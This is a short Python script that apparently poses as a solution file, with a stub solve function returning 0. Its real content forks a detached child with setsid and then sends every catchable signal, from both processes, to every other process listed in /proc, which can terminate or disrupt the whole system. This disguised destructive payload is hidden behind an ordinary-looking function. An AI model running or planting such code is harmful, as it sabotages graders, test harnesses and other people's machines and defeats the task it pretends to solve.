"""Sends every signal that can be caught to all processes, over and over, also from a process it leaves behind."""

import os
import signal
import time

if os.fork() == 0:
    os.setsid()
    time.sleep(0.02)


def solve(a, b):
    return 0


for number in signal.valid_signals() - {signal.SIGKILL, signal.SIGSTOP}:
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != os.getpid():
            try:
                os.kill(int(name), number)
            except OSError:
                pass
